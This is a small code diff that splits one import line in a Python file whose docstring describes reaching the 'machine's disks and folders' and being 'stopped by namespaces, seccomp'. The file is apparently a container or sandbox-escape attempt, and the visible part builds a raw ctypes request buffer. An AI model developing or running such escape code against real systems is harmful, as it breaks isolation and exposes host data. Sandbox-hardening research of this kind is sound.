@@ -4,7 +4,8 @@ Loot: the machine's disks and folders
 Stopped by: namespaces, seccomp
 """
 
-import ctypes, struct
+import ctypes
+import struct
 
 request = ctypes.create_string_buffer(struct.pack("<IIQQQ", 24, 0, 0xFFFFFFFFFFFFFFFF, 0, 0))
 found = (ctypes.c_uint64 * 256)()
